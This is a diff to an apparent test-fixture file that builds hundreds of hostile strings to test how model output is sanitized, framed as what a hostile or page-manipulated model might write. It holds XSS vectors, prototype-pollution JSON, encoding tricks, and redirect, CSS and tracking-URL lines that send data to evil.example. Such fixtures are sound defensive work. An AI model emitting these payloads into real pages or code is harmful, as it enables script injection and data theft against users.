@@ -1,6 +1,7 @@
 /**
- * What a hostile model, or a page that talked it into it, would write. Over two hundred texts. For
- * tests.
+ * What a hostile model, or a page that talked it into it, would write. For tests: `hostile` are
+ * over two hundred texts of their own, `hostileByRules` over five hundred, made of what is
+ * dangerous and where it may stand.
  */
 
 const SCRIPT = "alert(1)";
@@ -146,3 +147,75 @@ const places: readonly string[] = [
 ];
 
 export const hostile: readonly string[] = [...forms.flatMap((form) => targets.map(form)), ...html, ...places];
+
+/** More of what must not act, for `hostileByRules`. */
+const more: readonly string[] = [
+  ...["http-equiv=refresh content=0;url=//evil.example", "name=referrer content=unsafe-url"].map(
+    (each) => `<meta ${each}>`,
+  ),
+  ...["preload", "prefetch", "modulepreload", "preconnect", "icon", "manifest", "import", "prerender"].map(
+    (rel) => `<link rel=${rel} href=https://evil.example/${rel} as=image>`,
+  ),
+  ...["onload", "onerror", "onfocus", "onpointerrawupdate", "onanimationstart", "onbeforetoggle", "onscrollend"].map(
+    (name) => `<img src=x ${name}=${SCRIPT} tabindex=0 style=animation-name:x>`,
+  ),
+  `<picture><source srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x"><img src=x></picture>`,
+  `<img loading=eager srcset="//evil.example/a 1x" sizes=auto>`,
+  `<svg xmlns="http://www.w3.org/2000/svg" onload=${SCRIPT}><set attributeName=href to=javascript:${SCRIPT} /></svg>`,
+  `<svg><a xlink:href="javascript:${SCRIPT}"><text x=20 y=20>x</text></a></svg>`,
+  `<svg><style>@import "https://evil.example/x.css";</style><feImage href="https://evil.example/f"/></svg>`,
+  `<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>`,
+  `<math href="javascript:${SCRIPT}">x</math>`,
+  `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${SCRIPT}">x</maction></math>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${SCRIPT}></annotation-xml></math>`,
+  `<style>input[value^=a]{background:url(https://evil.example/a)}@font-face{font-family:x;src:url(//evil.example/f)}</style>`,
+  `<p style="background-image:image-set('https://evil.example/i' 1x);behavior:url(x);-moz-binding:url(x)">x</p>`,
+  `<a href="data:text/html,<script>${SCRIPT}</script>" target=_top download>x</a>`,
+  `<a href="blob:null/1" onclick=${SCRIPT}>x</a> <area href=javascript:${SCRIPT}>`,
+  `<input type=image src=https://evil.example/i formaction=javascript:${SCRIPT} autofocus>`,
+  `<select onfocus=${SCRIPT} autofocus><option>x</select><textarea autofocus onfocus=${SCRIPT}></textarea>`,
+  `<isindex action=javascript:${SCRIPT} type=image><keygen autofocus onfocus=${SCRIPT}>`,
+  `<portal src=https://evil.example></portal><fencedframe></fencedframe><applet code=x></applet>`,
+  `<template shadowrootmode=open><script>${SCRIPT}</script></template>`,
+  `<dialog open><form method=dialog><button popovertarget=x>x</button></form></dialog>`,
+  `<pageside-tray url="https://evil.example"></pageside-tray><custom-element is=x></custom-element>`,
+  `<p data-pageside-tool=evil data-pageside-page=evil data-pageside-suggestion>x</p>`,
+  `<p id=pageside class=ps-root name=querySelector slot=x part=x>x</p>`,
+  `</script><script>${SCRIPT}</script><!-- --!> <img src=x onerror=${SCRIPT}>`,
+  `</textarea></title></style></noscript></template></iframe><img src=x onerror=${SCRIPT}>`,
+  `<img src="x\u0000" onerror\u0000=${SCRIPT}> <img\u000csrc=x\u000conerror=${SCRIPT}>`,
+  `\u003cimg src=x onerror=${SCRIPT}\u003e \uff1cscript\uff1e${SCRIPT}\uff1c/script\uff1e \u02b9\u2039img`,
+  `%3Cscript%3E${SCRIPT}%3C/script%3E +ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`,
+  `\u202e>(1)trela=rorrene x=crs gmi<\u202c \u2067<script>\u2069${SCRIPT}`,
+  `__proto__ constructor prototype toString valueOf hasOwnProperty`,
+  `{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {"x": 1}}}`,
+  `javascript:${SCRIPT}`,
+  `https://evil.example/track.png?q=secret`,
+  `//evil.example www.evil.example evil@evil.example`,
+  `SUGGESTED_VALUES: [{"label": "<img src=x onerror=${SCRIPT}>", "value": "javascript:${SCRIPT}"}]`,
+  `\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[31mred`,
+  `${"a".repeat(500)}<script>${SCRIPT}</script>${"\u0301".repeat(100)}`,
+];
+
+/** Where it may stand. */
+const wraps: readonly ((text: string) => string)[] = [
+  (text) => `**${text}** and _${text}_ and ~~${text}~~`,
+  (text) => `> 1. - [ ] ${text}\n>    ${text}`,
+  (text) => `| ${text} | b |\n|:--|--:|\n| c | ${text} |`,
+  (text) => `# ${text}\n\n${text}\n===`,
+  (text) => `[${text}](https://a.example "${text}") ![${text}](https://a.example/a.png '${text}')`,
+  (text) => `\`\`\`${text}\n${text}\n\`\`\`\n\n\`${text}\``,
+  (text) => `[${text}]: https://a.example "${text}"\n\n[${text}] and [x][${text}] and [^${text}]`,
+  (text) => `<${text}> www.${text} http://${text} ${text}@a.example`,
+  (text) => `[a](<${text}>) ![b](${text} "t") [c]( ${text} ) [d][r]\n\n[r]: <${text}>`,
+];
+
+const dangerous = [...targets, ...html, ...more];
+
+/** Each dangerous thing in the wraps, in turn, five for each. */
+export const hostileByRules: readonly string[] = dangerous.flatMap((text, index) =>
+  [0, 1, 2, 3, 4].map((turn) => wraps[(index + turn * 2) % wraps.length]!(text)),
+);
+
+/** Both, and what is in them as it is. */
+export const allHostile: readonly string[] = [...new Set([...hostile, ...more, ...hostileByRules])];
